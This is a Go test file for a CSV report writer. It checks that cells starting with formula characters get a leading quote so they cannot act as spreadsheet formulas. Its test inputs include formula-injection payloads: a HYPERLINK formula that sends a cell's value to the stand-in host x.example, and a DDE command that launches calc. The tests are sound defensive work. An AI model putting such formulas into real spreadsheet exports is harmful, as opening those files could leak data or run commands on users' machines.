package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/listscrub/listscrub/scrub"
)

func TestSpreadsheetSafe(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Paris", "Paris"},
		{"12", "12"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x.example/?"&A1,"clic")`, `'=HYPERLINK("http://x.example/?"&A1,"clic")`},
		{"+33", "'+33"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
	} {
		if got := spreadsheetSafe(c.in); got != c.want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// Every cell WriteCSV writes, the --by values and source labels included,
// reads back (as CSV) without a formula lead character.
func TestWriteCSVNeutralizesFormulas(t *testing.T) {
	payloads := []string{`=cmd|' /C calc'!A0`, "+1", "-1", "@A1", "\t=1", "\r=1"}
	st := &scrub.Stats{}
	st.BlockedBySource.Add("=src", 1)
	st.InvalidByReason.Add("empty", 0)
	r := &Report{Stats: st}
	var vals Breakdown
	for _, p := range payloads {
		vals = append(vals, Bucket{Key: p, Label: p, Counts: Counts{Rows: 1}})
	}
	r.ByColumn = Columns{{Column: "=col", Values: vals}}
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && bytes.IndexByte([]byte("=+-@\t\r"), c[0]) >= 0 {
				t.Errorf("cell %q starts with a formula character", c)
			}
			seen[c] = true
		}
	}
	for _, p := range append(payloads, "=src") {
		if !seen["'"+p] {
			t.Errorf("no cell %q", "'"+p)
		}
	}
}
